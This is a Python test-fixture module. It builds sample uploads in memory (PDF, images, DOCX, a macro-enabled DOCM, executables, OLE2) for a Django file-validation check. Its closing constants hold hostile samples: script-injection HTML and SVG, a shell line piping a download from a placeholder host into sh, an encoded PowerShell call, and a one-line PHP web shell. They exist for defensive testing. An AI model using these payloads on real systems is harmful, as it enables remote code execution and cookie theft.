"""Real (small) files of every kind the materials checks meet, built in memory; other tests may import these."""

import io
import struct
import time
import zipfile

from django.core.files.uploadedfile import SimpleUploadedFile
from docx import Document
from PIL import Image


def pdf_bytes():
    """A real one-page PDF (Pillow writes a complete file: header, objects, xref, %%EOF); the same bytes each call."""
    buffer = io.BytesIO()
    moment = time.strptime("2022-12-05 10:00:00", "%Y-%m-%d %H:%M:%S")
    Image.new("RGB", (20, 20), "white").save(buffer, "PDF", creationDate=moment, modDate=moment)
    return buffer.getvalue()


def png_bytes(size=(8, 8)):
    buffer = io.BytesIO()
    Image.new("RGB", size, "red").save(buffer, "PNG")
    return buffer.getvalue()


def jpeg_bytes(size=(8, 8)):
    buffer = io.BytesIO()
    Image.new("RGB", size, "blue").save(buffer, "JPEG")
    return buffer.getvalue()


def gif_bytes():
    buffer = io.BytesIO()
    Image.new("P", (4, 4)).save(buffer, "GIF")
    return buffer.getvalue()


def docx_bytes(text="申请报告"):
    buffer = io.BytesIO()
    document = Document()
    document.add_paragraph(text)
    document.save(buffer)
    return buffer.getvalue()


def _rewrite_zip(data, replace):
    """A copy of the ZIP `data` where `replace(name, content)` may change each entry (None drops it)."""
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = replace(info.filename, source.read(info))
            if content is not None:
                target.writestr(info.filename, content)
    return buffer.getvalue()


def docm_bytes():
    """A macro-enabled Word document: the main part declared as docm, with a VBA project part."""

    def replace(name, content):
        if name == "[Content_Types].xml":
            content = content.replace(
                b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                b"application/vnd.ms-word.document.macroEnabled.main+xml",
            )
        return content

    data = _rewrite_zip(docx_bytes(), replace)
    buffer = io.BytesIO(data)
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 100)
    return buffer.getvalue()


def docx_without_document_bytes():
    """Declares a Word main document but lacks word/document.xml."""
    return _rewrite_zip(docx_bytes(), lambda name, content: None if name == "word/document.xml" else content)


def xlsx_bytes():
    from openpyxl import Workbook

    buffer = io.BytesIO()
    Workbook().save(buffer)
    return buffer.getvalue()


def zip_bytes():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("readme.txt", "hello")
    return buffer.getvalue()


def exe_bytes():
    """The start of a Windows PE executable: DOS header (MZ, e_lfanew at 0x3C) pointing at `PE\\0\\0`."""
    header = bytearray(b"MZ" + b"\x90\x00" * 29)
    header += b"\x00" * (0x3C - len(header))
    header += struct.pack("<I", 0x80)
    header += b"\x00" * (0x80 - len(header))
    header += b"PE\x00\x00" + b"\x4c\x01" + b"\x00" * 200
    return bytes(header)


def elf_bytes():
    return b"\x7fELF\x02\x01\x01" + b"\x00" * 100


def ole2_bytes(stream_name="WordDocument", extra=()):
    """The beginning of a compound (OLE2) file with directory entries named `stream_name` (and `extra`)."""
    names = b"".join(name.encode("utf-16-le") + b"\x00\x00" for name in (stream_name, *extra))
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504 + names + b"\x00" * 512


HTML = b"<!DOCTYPE html>\n<html><body><script>alert(document.cookie)</script></body></html>\n"
SHELL_SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
BATCH_SCRIPT = b"@echo off\r\npowershell -enc AAAA\r\n"
PHP = b"<?php system($_GET['c']); ?>"
SVG = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
PLAIN_TEXT = "营业执照号码：91140500BJ1XG6128F\n".encode()


def upload(name, content, content_type="application/pdf"):
    """What Django hands the view for a posted file; the browser's content type is deliberately ignored."""
    return SimpleUploadedFile(name, content, content_type=content_type)


def padded_jpeg(total_size):
    """A valid JPEG of exactly `total_size` bytes (viewers ignore bytes after the end-of-image marker)."""
    data = jpeg_bytes()
    assert total_size >= len(data)
    return data + b"\x00" * (total_size - len(data))
